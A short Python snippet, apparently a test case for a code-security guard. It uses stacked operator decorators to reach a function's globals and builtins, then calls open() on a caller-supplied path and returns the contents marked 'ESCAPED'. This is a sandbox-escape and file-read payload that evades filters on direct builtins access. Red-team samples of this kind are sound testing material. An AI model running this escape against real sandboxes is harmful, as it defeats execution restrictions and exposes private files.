# guard: CODE_SECURITY
# bare: CODE_SECURITY
# what: a decorator that replaces a function with an attribute of it
import operator
@operator.itemgetter("__builtins__")
@operator.attrgetter("__globals__")
def table():
    pass
return "ESCAPED " + table["open"](inputs["file"]).read()
